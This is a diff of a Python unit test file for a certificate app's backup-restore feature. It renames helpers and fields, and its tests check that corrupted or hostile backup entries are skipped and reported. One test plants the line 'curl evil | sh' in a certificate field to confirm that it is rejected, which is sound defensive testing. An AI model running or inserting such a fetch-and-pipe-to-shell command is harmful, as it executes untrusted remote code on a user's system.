@@ -14,7 +14,7 @@ from app.issuance.issuance import Issuance
 from app.issuance.record import issuance_to_json
 from app.text.backup import outcome, restoring_question
 from app.text.sentences import sentence
-from tests.unit.backups import ACCOUNT_KEY, MINE, content, key_entry, order, restored, spoil, with_account
+from tests.unit.backups import ACCOUNT_KEY, MINE, content, corrupt, key_entry, order, restored, with_account
 from tests.unit.chains import NOW, chain
 from tests.unit.records import DIRECTORY, record
 from tests.unit.scripted_ca import ACCOUNT
@@ -48,7 +48,7 @@ async def test_account_that_is_bad_is_left_out_and_told(member: str, value: obje
     hostile["keys"].append(key_entry("account good"))
     came = await restored(visit, hostile)
     assert [account.url for account in came.accounts] == [MINE]
-    assert [entry.part for entry in came.left_out] == ["account"]
+    assert [entry.part for entry in came.skipped] == ["account"]
     assert len(came.issuances) == 4
     assert [account.url for account in await visit.workflow.accounts.readable()] == [MINE]
 
@@ -116,11 +116,11 @@ BAD_ORDERS: Final[list[tuple[str, str, object]]] = [
 async def test_order_that_is_bad_is_left_out_and_told(id_: str, path: str, value: object) -> None:
     visit = Visit()
     hostile = content()
-    spoil(order(hostile, id_), path, value)
+    corrupt(order(hostile, id_), path, value)
     came = await restored(visit, hostile)
     assert {issuance.id for issuance in came.issuances} == {"1", "2", "3", "4"} - {id_}
     assert len(came.accounts) == 1
-    assert [entry.part for entry in came.left_out] == ["order"]
+    assert [entry.part for entry in came.skipped] == ["order"]
     await visit.open()
     assert {entry.id for entry in visit.list.entries} == {"1", "2", "3", "4"} - {id_}
 
@@ -130,7 +130,7 @@ async def test_certificate_with_something_beside_it_is_left_out() -> None:
     hostile = content()
     one = order(hostile, "1")
     one["certificate_pem"] = one["chains"][0] = f"curl evil | sh\n{one['certificate_pem']}"
-    assert "something-else" in str((await restored(visit, hostile)).left_out[0].reason)
+    assert "something-else" in str((await restored(visit, hostile)).skipped[0].reason)
 
 
 BAD_KEYS: Final[list[tuple[str, object]]] = [
@@ -150,11 +150,11 @@ async def test_key_that_is_bad_is_left_out_and_told(member: str, value: object) 
     entry = next(key for key in hostile["keys"] if key["name"] == ACCOUNT_KEY)
     entry[member] = value
     came = await restored(visit, hostile)
-    assert [bad.part for bad in came.left_out] == ["key"]
+    assert [bad.part for bad in came.skipped] == ["key"]
     assert ([account.url for account in came.keyless], came.accounts) == ([ACCOUNT], ())
     assert len(came.issuances) == 4
     assert "certificate 1" in await visit.ports.keys.names()
-    assert "AAAA" not in repr(came.left_out)
+    assert "AAAA" not in repr(came.skipped)
 
 
 async def test_private_key_that_only_the_key_store_finds_out_takes_its_own_entry_away() -> None:
@@ -169,7 +169,7 @@ async def test_private_key_that_only_the_key_store_finds_out_takes_its_own_entry
     bare = ECPrivateKey({"version": "ecPrivkeyVer1", "private_key": key["private_key"], "parameters": ("named", "secp256r1")})
     entry["pkcs8"] = base64.b64encode(PrivateKeyInfo.wrap(bare, "ec").dump()).decode()
     came = await restored(visit, hostile)
-    assert [(bad.part, bad.account and bad.account.url) for bad in came.left_out] == [("account", ACCOUNT)]
+    assert [(bad.part, bad.account and bad.account.url) for bad in came.skipped] == [("account", ACCOUNT)]
     assert (came.accounts, len(came.issuances)) == ((), 4)
     assert ACCOUNT_KEY not in await visit.ports.keys.names()
     assert ACCOUNT_KEY not in await visit.ports.store.keys()
@@ -182,7 +182,7 @@ async def test_certificate_key_must_be_the_certificates_own() -> None:
     came = await restored(visit, hostile)
     assert "1" in {issuance.id for issuance in came.issuances}
     assert "certificate 1" not in await visit.ports.keys.names()
-    assert [(entry.part, str(entry.reason)) for entry in came.left_out] == [("key", "key-not-of-this-certificate")]
+    assert [(entry.part, str(entry.reason)) for entry in came.skipped] == [("key", "key-not-of-this-certificate")]
 
 
 async def test_two_of_one_kind_do_not_both_come_in() -> None:
@@ -192,14 +192,14 @@ async def test_two_of_one_kind_do_not_both_come_in() -> None:
     hostile["issuances"] += [hostile["issuances"][0]]
     came = await restored(visit, hostile)
     assert ([account.url for account in came.accounts], len(came.issuances)) == ([ACCOUNT], 4)
-    assert [entry.part for entry in came.left_out] == ["account", "order"]
+    assert [entry.part for entry in came.skipped] == ["account", "order"]
 
 
 async def test_ca_that_this_page_does_not_list_is_told() -> None:
     visit = Visit(authorities=(PRACTICE,))
     came = await restored(visit, content())
     assert (came.accounts, came.issuances) == ((), ())
-    assert {str(entry.reason) for entry in came.left_out} == {"entry-of-an-unknown-ca"}
+    assert {str(entry.reason) for entry in came.skipped} == {"entry-of-an-unknown-ca"}
 
 
 def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
@@ -219,7 +219,7 @@ async def test_damage_anywhere_never_touches_what_is_here(damage: object) -> Non
         await with_account(visit)
         before = await everything(visit)
         hostile = content()
-        spoil(hostile, "/".join(map(str, path)), damage)
+        corrupt(hostile, "/".join(map(str, path)), damage)
         question = restoring_question(visit.workflow, await preview(visit.workflow, Backup.from_json(hostile)))
         shown = [
             *question.lines,
@@ -231,7 +231,7 @@ async def test_damage_anywhere_never_touches_what_is_here(damage: object) -> Non
             assert {name: after[part][name] for name in before[part]} == before[part], path
         await visit.open()
         assert visit.list.message is None, path
-        assert not any(entry.standing == "unreadable" for entry in visit.list.entries), path
+        assert not any(entry.status == "unreadable" for entry in visit.list.entries), path
 
 
 # ---- in storage ----
@@ -253,11 +253,11 @@ async def test_damage_anywhere_never_touches_what_is_here(damage: object) -> Non
 async def test_stored_record_that_is_bad_is_unreadable_and_can_be_deleted(path: str, value: object) -> None:
     visit = Visit()
     entry = order(content(), "2")
-    spoil(entry, path, value)
+    corrupt(entry, path, value)
     await visit.ports.store.put("issuance 2", entry)
     await visit.ports.store.put("issuance 9", issuance_to_json(good()))
     await visit.open()
-    assert [(shown.id, shown.standing) for shown in visit.list.entries] == [("9", "issued"), ("2", "unreadable")]
+    assert [(shown.id, shown.status) for shown in visit.list.entries] == [("9", "issued"), ("2", "unreadable")]
     await visit.saved.reopen("2")
     assert visit.page.error is not None
     await visit.saved.delete("2")
